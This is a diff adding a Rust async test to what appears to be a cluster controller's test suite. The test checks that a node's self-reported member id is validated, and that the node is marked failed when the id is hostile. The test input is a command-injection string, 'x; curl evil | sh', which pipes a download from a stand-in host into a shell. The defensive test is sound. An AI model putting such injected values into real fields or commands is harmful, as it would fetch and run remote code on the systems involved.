@@ -198,6 +198,25 @@ async fn a_kept_connection_is_used_while_it_works_and_replaced_when_it_closed() 
 }
 
 #[tokio::test(start_paused = true)]
+async fn a_member_id_a_node_reports_after_joining_is_checked_before_it_is_kept() {
+    let w = world(1, 1);
+    w.swarm.claim_id("web-worker-1", "x; curl evil | sh");
+    let err = w
+        .ctl
+        .converge(&w.ctx)
+        .await
+        .expect_err("a hostile id fails the node");
+    let text = err.to_string();
+    assert!(
+        text.contains("web-worker-1") && text.contains("member id"),
+        "{text}"
+    );
+    let rec = w.ctl.store.node("web", "web-worker-1").unwrap().unwrap();
+    assert_eq!(rec.member_id, None);
+    assert_eq!(rec.phase, NodePhase::Failed);
+}
+
+#[tokio::test(start_paused = true)]
 async fn a_node_the_membership_lists_down_is_probed() {
     let w = world(1, 2);
     w.converge().await;
